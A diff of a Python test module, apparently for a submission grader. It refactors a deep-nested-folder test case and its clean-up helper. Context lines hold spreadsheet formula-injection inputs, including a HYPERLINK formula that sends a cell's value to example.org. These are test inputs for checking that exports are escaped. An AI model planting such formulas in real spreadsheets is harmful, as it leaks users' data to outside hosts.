@@ -580,7 +580,8 @@ FORMULA_FOLDER = '=HYPERLINK("example.org?"&A1,"open")'
 # splits on ";" would start a cell.
 FORMULA_MESSAGE = HYPERLINK + ";=1+1\n-2+3,@SUM(A1)"
 HUGE_MESSAGE = 300_000  # characters
-RERUN = "huge-message"  # graded a second time on the same OUT, after the batch
+RERUN = "huge-message"
+DEEP_CASE = "deep-folder"  # graded a second time on the same OUT, after the batch
 
 
 def central_directory(data):
@@ -651,18 +652,21 @@ def zipped(*edits, member=MODULE):
     return pack
 
 
+DIRECTORY = os.O_RDONLY | os.O_DIRECTORY
+
+
 def nested(folder, depth=DEPTH):
     """Move the working copy to the bottom of `depth` folders named "d".
 
-    Paths that deep are longer than the system allows, so each level is made relative
-    to the one above it.
+    Paths that deep are longer than the system allows, so each level is reached from
+    the one above it.
     """
-    top = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
+    top = os.open(folder, DIRECTORY)
     inside = os.listdir(top)
     level = os.dup(top)
     for _ in range(depth):
         os.mkdir("d", dir_fd=level)
-        below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=level)
+        below = os.open("d", DIRECTORY, dir_fd=level)
         os.close(level)
         level = below
     for name in inside:
@@ -671,13 +675,26 @@ def nested(folder, depth=DEPTH):
     os.close(top)
 
 
-def flatten(folder):
-    """Undo `nested` one level at a time: shutil.rmtree recurses once per level."""
-    chain = folder / "d"
-    while (chain / "d").is_dir():
-        (chain / "d").rename(folder / "lifted")
-        chain.rmdir()
-        (folder / "lifted").rename(chain)
+def unnest(folder):
+    """Undo `nested`: the working copy back on top, the empty folders removed bottom up.
+
+    shutil.rmtree (and so pytest's clean-up) recurses once per level, past Python's limit.
+    """
+    top = os.open(folder, DIRECTORY)
+    level, depth = os.dup(top), 0
+    while "d" in os.listdir(level):
+        below = os.open("d", DIRECTORY, dir_fd=level)
+        os.close(level)
+        level, depth = below, depth + 1
+    for name in os.listdir(level):
+        os.rename(name, name, src_dir_fd=level, dst_dir_fd=top)
+    for _ in range(depth):
+        above = os.open("..", DIRECTORY, dir_fd=level)
+        os.close(level)
+        os.rmdir("d", dir_fd=above)
+        level = above
+    os.close(level)
+    os.close(top)
 
 
 def sparse_helpers(folder):
@@ -720,7 +737,7 @@ ISSUE_11 = [
         pack=zipped(method(9)),
     ),
     Case(
-        "deep-folder",
+        DEEP_CASE,
         f"the working copy at the bottom of {DEPTH} nested folders",
         nested,
         problem="nested over 32 folders deep",
@@ -757,7 +774,7 @@ CASES += ISSUE_11
 
 def unmake(submissions):
     """Make what `make` wrote removable by shutil.rmtree (pytest cleans up with it)."""
-    flatten(submissions / "deep-folder")
+    unnest(submissions / DEEP_CASE)
 
 
 def make(submissions):
